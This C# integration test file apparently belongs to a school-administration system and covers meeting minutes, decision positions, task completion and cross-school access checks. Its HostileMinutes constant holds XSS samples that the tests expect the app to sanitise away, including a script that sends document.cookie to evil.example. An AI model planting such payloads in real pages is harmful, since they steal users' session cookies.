using DutyDesk.Responsibility;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using DutyDesk.Integration.Tests.Infrastructure;
using DutyDesk.Platform.Auditing;
using DutyDesk.Platform.Data;
using DutyDesk.Platform.Results;
using DutyDesk.Platform.Tasks;
using DutyDesk.Responsibility.Domain;
using DutyDesk.Responsibility.Features.Meetings;
using Microsoft.EntityFrameworkCore;

namespace DutyDesk.Integration.Tests;

/// <summary>会议与决策: sanitised minutes, safe edits, positions on decisions, and meetings that close obligation tasks.</summary>
public sealed class MeetingTests
{
    private const string HostileMinutes =
        "<p>一、传达上级精神<script>fetch('https://evil.example/?c='+document.cookie)</script></p>"
        + "<p onclick=\"steal()\">二、<strong>研究</strong>本校工作</p>"
        + "<p><a href=\"javascript:alert(1)\">附件链接</a> <a href=\"https://www.gov.cn/\">政策原文</a></p>"
        + "<iframe src=\"https://evil.example\"></iframe><p style=\"position:fixed\">三、部署</p>";

    [Theory]
    [BothProviders]
    public async Task CreateMeeting_HostileMinutes_StoredSanitised(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);

        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", HostileMinutes);

        await using var db = await host.DbAsync();
        var stored = await db.Set<Meeting>().SingleAsync(m => m.Id == id);
        var minutes = stored.Minutes!;
        Assert.DoesNotContain("<script", minutes, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("document.cookie", minutes, StringComparison.Ordinal);
        Assert.DoesNotContain("onclick", minutes, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", minutes, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("iframe", minutes, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("style", minutes, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<strong>研究</strong>", minutes, StringComparison.Ordinal);
        Assert.Contains("href=\"https://www.gov.cn/\"", minutes, StringComparison.Ordinal);
        Assert.Contains("三、部署", minutes, StringComparison.Ordinal);
        Assert.True(await db.AuditEntries.AnyAsync(a => a.Action == ResponsibilityAudit.MeetingCreate && a.ObjectId == id.ToString()));
    }

    [Theory]
    [BothProviders]
    public async Task UpdateMeeting_StaleVersion_StaleEditAndUnchanged(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>初稿</p>");
        var meetings = host.Get<ManageMeetings>();
        var actor = await host.ActorAsync("yz.office");
        var read = await VersionAsync(host, id);
        var first = await meetings.UpdateAsync(actor, Update(id, "第一次修改", read));
        Assert.True(first.IsSuccess, first.Error?.Message);

        var second = await meetings.UpdateAsync(actor, Update(id, "基于旧版本的修改", read));

        Assert.Equal(ErrorKind.Conflict, second.Error?.Kind);
        Assert.Contains("已被他人修改", second.Error!.Message, StringComparison.Ordinal);
        await using var db = await host.DbAsync();
        Assert.Equal("第一次修改", (await db.Set<Meeting>().SingleAsync(m => m.Id == id)).Title);
    }

    [Theory]
    [BothProviders]
    public async Task RecordPositions_Attendees_OnePerMemberAndObjectorMarkedExempt(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>纪要</p>");
        var actor = await host.ActorAsync("yz.office");
        var decisions = host.Get<MeetingDecisions>();
        var decision = await decisions.SaveDecisionAsync(actor, new SaveDecisionCommand(id, null, "在校园网开设评论区", true, await VersionAsync(host, id)));
        Assert.True(decision.IsSuccess, decision.Error?.Message);
        var (secretary, leader, moral) = (await host.UserIdAsync("yz.secretary"), await host.UserIdAsync("yz.leader"), await host.UserIdAsync("yz.moral"));

        var recorded = await decisions.RecordPositionsAsync(actor, new RecordPositionsCommand(id, decision.Value,
            [new(secretary, DecisionStance.Agree, null), new(leader, DecisionStance.Oppose, "评论区无人审核，风险大"), new(moral, DecisionStance.Abstain, null)],
            await VersionAsync(host, id)));
        Assert.True(recorded.IsSuccess, recorded.Error?.Message);
        var changed = await decisions.RecordPositionsAsync(actor, new RecordPositionsCommand(id, decision.Value,
            [new(secretary, DecisionStance.Agree, null), new(leader, DecisionStance.Oppose, "评论区无人审核，风险大"), new(moral, DecisionStance.Agree, "改为同意")],
            await VersionAsync(host, id)));
        Assert.True(changed.IsSuccess, changed.Error?.Message);

        var details = (await host.Get<MeetingQueries>().GetAsync(actor, id)).Value;
        var positions = details.Decisions.Single().Positions;
        Assert.Equal(3, positions.Count);
        Assert.Equal(DecisionStance.Agree, positions.Single(p => p.MemberId == moral).Stance);
        Assert.Equal([leader], positions.Where(p => p.Exempt).Select(p => p.MemberId));
        Assert.Equal("评论区无人审核，风险大", positions.Single(p => p.MemberId == leader).Reason);
        await using var db = await host.DbAsync();
        Assert.Equal(3, await db.Set<DecisionPosition>().CountAsync(p => p.DecisionId == decision.Value));
    }

    [Theory]
    [BothProviders]
    public async Task RecordPositions_NonAttendeeOrTwiceForOneMember_RefusedAndNothingStored(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>纪要</p>");
        var actor = await host.ActorAsync("yz.office");
        var decisions = host.Get<MeetingDecisions>();
        var decision = (await decisions.SaveDecisionAsync(actor, new SaveDecisionCommand(id, null, "决策一", true, await VersionAsync(host, id)))).Value;
        var secretary = await host.UserIdAsync("yz.secretary");
        var outsider = await host.UserIdAsync("yz.reviewer");

        var notAttending = await decisions.RecordPositionsAsync(actor, new RecordPositionsCommand(id, decision, [new(outsider, DecisionStance.Oppose, null)], await VersionAsync(host, id)));
        var twice = await decisions.RecordPositionsAsync(actor, new RecordPositionsCommand(id, decision,
            [new(secretary, DecisionStance.Agree, null), new(secretary, DecisionStance.Oppose, null)], await VersionAsync(host, id)));

        Assert.Equal("positions", notAttending.Error?.Field);
        Assert.Contains("参会人员", notAttending.Error!.Message, StringComparison.Ordinal);
        Assert.Equal("positions", twice.Error?.Field);
        await using var db = await host.DbAsync();
        Assert.Equal(0, await db.Set<DecisionPosition>().CountAsync());
    }

    [Theory]
    [BothProviders]
    public async Task SatisfyTask_OpenOccurrenceTask_DoneWithMeetingAttachmentsAsEvidence(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>研究部署意识形态工作</p>");
        var actor = await host.ActorAsync("yz.office");
        using (var photo = new MemoryStream(SampleFiles.Png(4, 4)))
        {
            Assert.True((await host.Get<ManageMeetings>().AddAttachmentAsync(actor, id, photo, "会议照片.png")).IsSuccess);
        }

        var taskId = await AddOccurrenceTaskAsync(host, "第一中学", "yz.office", TimeSpan.FromDays(10));
        var options = await host.Get<MeetingQueries>().OpenOccurrenceTasksAsync(actor, id);
        Assert.Contains(options.Value, o => o.Id == taskId);

        var satisfied = await host.Get<SatisfyTask>().HandleAsync(actor, new SatisfyTaskCommand(id, taskId, await VersionAsync(host, id)));

        Assert.True(satisfied.IsSuccess, satisfied.Error?.Message);
        await using var db = await host.DbAsync();
        var task = await db.DueTasks.Include(t => t.Evidence).SingleAsync(t => t.Id == taskId);
        Assert.Equal(DueTaskState.Done, task.State);
        Assert.Equal("由会议《2026年意识形态工作专题会议》办结", task.CompletionNote);
        Assert.False(task.NothingToReport);
        var attachment = await db.Set<MeetingAttachment>().SingleAsync(a => a.MeetingId == id);
        Assert.Equal([attachment.FileId], task.Evidence.Select(e => e.FileId));
        Assert.Equal(taskId, (await db.Set<Meeting>().SingleAsync(m => m.Id == id)).SatisfiedTaskId);
        Assert.True(await db.AuditEntries.AnyAsync(a => a.Action == ResponsibilityAudit.MeetingSatisfyTask && a.ObjectId == id.ToString()));
        Assert.True(await db.AuditEntries.AnyAsync(a => a.Action == AuditActions.TaskComplete && a.ObjectId == taskId.ToString()));
    }

    [Theory]
    [BothProviders]
    public async Task SatisfyTask_MeetingWithoutMinutesOrAttachments_RefusedAndTaskStillOpen(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", minutes: "<p><br></p>");
        var taskId = await AddOccurrenceTaskAsync(host, "第一中学", "yz.office", TimeSpan.FromDays(10));

        var satisfied = await host.Get<SatisfyTask>().HandleAsync(await host.ActorAsync("yz.office"), new SatisfyTaskCommand(id, taskId, await VersionAsync(host, id)));

        Assert.Equal("evidence", satisfied.Error?.Field);
        Assert.Contains("纪要", satisfied.Error!.Message, StringComparison.Ordinal);
        await using var db = await host.DbAsync();
        Assert.Equal(DueTaskState.Open, (await db.DueTasks.SingleAsync(t => t.Id == taskId)).State);
        Assert.Null((await db.Set<Meeting>().SingleAsync(m => m.Id == id)).SatisfiedTaskId);
    }

    [Theory]
    [BothProviders]
    public async Task SatisfyTask_PlatformTaskOrOtherSchoolsTask_Refused(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>纪要</p>");
        var manual = await host.CreateTaskAsync("yz.office", "第一中学", "yz.moral", TimeSpan.FromDays(3));
        var otherSchool = await AddOccurrenceTaskAsync(host, "实验小学", "xx.office", TimeSpan.FromDays(3));
        var handler = host.Get<SatisfyTask>();
        var actor = await host.ActorAsync("yz.office");

        var notOccurrence = await handler.HandleAsync(actor, new SatisfyTaskCommand(id, manual, await VersionAsync(host, id)));
        var outOfScope = await handler.HandleAsync(actor, new SatisfyTaskCommand(id, otherSchool, await VersionAsync(host, id)));

        Assert.Equal("taskId", notOccurrence.Error?.Field);
        Assert.Equal(ErrorKind.NotFound, outOfScope.Error?.Kind);
        await using var db = await host.DbAsync();
        Assert.Equal(2, await db.DueTasks.CountAsync(t => (t.Id == manual || t.Id == otherSchool) && t.State == DueTaskState.Open));
    }

    [Theory]
    [BothProviders]
    public async Task GetMeeting_UserOfOtherSchool_NotFoundViaHandlerAndApi(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", HostileMinutes);
        var outsider = await host.ActorAsync("xx.office");

        var read = await host.Get<MeetingQueries>().GetAsync(outsider, id);
        var listed = await host.Get<MeetingQueries>().ListAsync(outsider, new MeetingFilter());
        using var outsiderApi = await ApiClient.ForUserAsync(host, "xx.office");
        using var response = await outsiderApi.GetAsync($"/api/v1/responsibility/meetings/{id}");
        using var ownApi = await ApiClient.ForUserAsync(host, "yz.office");
        using var own = await ownApi.GetAsync($"/api/v1/responsibility/meetings/{id}");

        Assert.Equal(ErrorKind.NotFound, read.Error?.Kind);
        Assert.DoesNotContain(listed, m => m.Id == id);
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal(HttpStatusCode.OK, own.StatusCode);
        var body = await own.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal("SpecialMeeting", body.GetProperty("type").GetString());
        Assert.DoesNotContain("<script", body.GetProperty("minutes").GetString(), StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [BothProviders]
    public async Task CreateMeeting_ViaApiByOtherSchoolForFirstSchool_NotFoundAndNothingWritten(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        using var api = await ApiClient.ForUserAsync(host, "xx.office");

        using var response = await api.PostAsJsonAsync("/api/v1/responsibility/meetings", new
        {
            unitId = await host.UnitIdAsync("第一中学"), type = "SpecialMeeting", title = "越权登记", startsAt = "2026-03-10T14:30:00+08:00",
        });

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        await using var db = await host.DbAsync();
        Assert.Equal(0, await db.Set<Meeting>().CountAsync());
    }

    [Theory]
    [BothProviders]
    public async Task Attachment_UploadedViaApi_DownloadsForOwnSchoolOnly(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", null);
        var png = SampleFiles.Png(6, 6);
        using var api = await ApiClient.ForUserAsync(host, "yz.office");
        using var outsiderApi = await ApiClient.ForUserAsync(host, "xx.office");
        using var form = new MultipartFormDataContent { { new ByteArrayContent(png), "file", "签到表.png" } };

        using var uploaded = await api.PostAsync($"/api/v1/responsibility/meetings/{id}/attachments", form);
        var fileId = (await uploaded.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("fileId").GetGuid();
        using var download = await api.GetAsync($"/api/v1/responsibility/meetings/{id}/attachments/{fileId}");
        using var foreign = await outsiderApi.GetAsync($"/api/v1/responsibility/meetings/{id}/attachments/{fileId}");

        Assert.Equal(HttpStatusCode.OK, uploaded.StatusCode);
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal(png, await download.Content.ReadAsByteArrayAsync());
        Assert.Equal(HttpStatusCode.NotFound, foreign.StatusCode);
        await using var db = await host.DbAsync();
        var file = await db.Files.SingleAsync(f => f.Id == fileId);
        Assert.Equal(await host.UnitIdAsync("第一中学"), file.UnitId);
    }

    [Theory]
    [BothProviders]
    public async Task MeetingPages_SignedIn_RenderSanitisedMinutesAndHideOtherSchools(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", HostileMinutes);
        using var office = await SignedInAsync(host, "yz.office");
        using var outsider = await SignedInAsync(host, "xx.office");

        using var list = await office.GetAsync("/responsibility/meetings");
        using var page = await office.GetAsync($"/responsibility/meetings/{id}");
        using var foreign = await outsider.GetAsync($"/responsibility/meetings/{id}");

        Assert.Equal(HttpStatusCode.OK, list.StatusCode);
        Assert.Contains("2026年意识形态工作专题会议", await LoginForm.TextAsync(list), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var html = await LoginForm.TextAsync(page);
        Assert.Contains("<strong>研究</strong>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("document.cookie", html, StringComparison.Ordinal);
        Assert.DoesNotContain("steal()", html, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript:alert", html, StringComparison.Ordinal);
        var other = await LoginForm.TextAsync(foreign);
        Assert.Contains("会议不存在或不在您的管辖范围内", other, StringComparison.Ordinal);
        Assert.DoesNotContain("2026年意识形态工作专题会议", other, StringComparison.Ordinal);
    }

    /// <summary>A browser-like client signed in through the real form (the one-time password already replaced).</summary>
    internal static async Task<HttpClient> SignedInAsync(TestHost host, string userName)
    {
        await using (var db = await host.DbAsync())
        {
            await db.Users.Where(u => u.UserName == userName).ExecuteUpdateAsync(s => s.SetProperty(u => u.MustChangePassword, false));
        }

        var client = host.CreateClient();
        using var signIn = await LoginForm.SubmitAsync(client, userName, host.Credentials.PasswordOf(userName));
        Assert.Equal(HttpStatusCode.Redirect, signIn.StatusCode);
        return client;
    }

    [Theory]
    [BothProviders]
    public async Task Get_MinutesWrittenAroundTheHandler_ComeBackSanitised(DatabaseProvider provider)
    {
        await using var host = await TestHost.StartAsync(provider);
        var id = await CreateMeetingAsync(host, "yz.office", "第一中学", "<p>研究意识形态工作</p>");
        await using (var db = await host.DbAsync())
        {
            await db.Set<Meeting>().Where(m => m.Id == id)
                .ExecuteUpdateAsync(s => s.SetProperty(m => m.Minutes, "<p onclick=\"steal()\">纪要</p><script>alert(1)</script>"));
        }

        var details = await host.Get<MeetingQueries>().GetAsync(await host.ActorAsync("yz.office"), id);

        Assert.True(details.IsSuccess, details.Error?.Message);
        Assert.Contains("纪要", details.Value.Minutes, StringComparison.Ordinal);
        Assert.DoesNotContain("script", details.Value.Minutes, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onclick", details.Value.Minutes, StringComparison.OrdinalIgnoreCase);
    }

    internal static async Task<Guid> CreateMeetingAsync(TestHost host, string creator, string unit, string? minutes, params string[] attendees)
    {
        var people = attendees.Length == 0 ? ["yz.secretary", "yz.leader", "yz.moral"] : attendees;
        var ids = new List<Guid>();
        foreach (var person in people)
        {
            ids.Add(await host.UserIdAsync(person));
        }

        var created = await host.Get<ManageMeetings>().CreateAsync(await host.ActorAsync(creator), new CreateMeetingCommand(
            await host.UnitIdAsync(unit), MeetingType.SpecialMeeting, "2026年意识形态工作专题会议", host.Clock.GetUtcNow().UtcDateTime.AddDays(-1),
            "第一会议室", ids, "一、传达学习；二、研究部署", minutes));
        Assert.True(created.IsSuccess, created.Error?.Message);
        return created.Value;
    }

    internal static async Task<Guid> VersionAsync(TestHost host, Guid meetingId)
    {
        await using var db = await host.DbAsync();
        return await db.Set<Meeting>().Where(m => m.Id == meetingId).Select(m => m.Version).SingleAsync();
    }

    /// <summary>An obligation occurrence's task as the responsibility module stages it.</summary>
    private static async Task<Guid> AddOccurrenceTaskAsync(TestHost host, string unit, string owner, TimeSpan dueIn)
    {
        var now = host.Clock.GetUtcNow().UtcDateTime;
        await using var db = await host.DbAsync();
        var task = db.AddDueTask(new DueTaskDraft("专题研究意识形态工作（上半年）", null, await host.UnitIdAsync(unit), await host.UserIdAsync(owner), now + dueIn, [1440],
            null, EvidenceRequired: true, SourceModule: "responsibility", SourceType: "ObligationOccurrence", SourceId: "special-meeting:H1"), await host.UserIdAsync(owner), now);
        await db.SaveChangesAsync();
        return task.Id;
    }

    private static UpdateMeetingCommand Update(Guid id, string title, Guid version)
        => new(id, MeetingType.SpecialMeeting, title, new DateTime(2026, 3, 10, 6, 30, 0, DateTimeKind.Utc), "第一会议室", null, null, "<p>纪要</p>", version);
}
